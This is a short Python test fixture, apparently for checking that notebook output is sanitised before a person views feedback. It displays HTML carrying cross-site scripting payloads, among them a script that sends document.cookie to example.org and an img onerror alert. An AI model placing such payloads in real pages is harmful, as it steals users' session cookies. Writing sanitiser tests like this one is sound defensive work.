"""Shows HTML with a script, for the browser of whoever reads the feedback.

Must be recorded as an output; it is made harmless before a person opens it.

Ends: ok
"""
# ruff: noqa

from IPython.display import HTML, Javascript, display
display(HTML("<script>fetch('http://example.org/?' + document.cookie)</script><img src=x onerror=alert(1)><b>bold</b>"))
display(Javascript("alert(1)"))
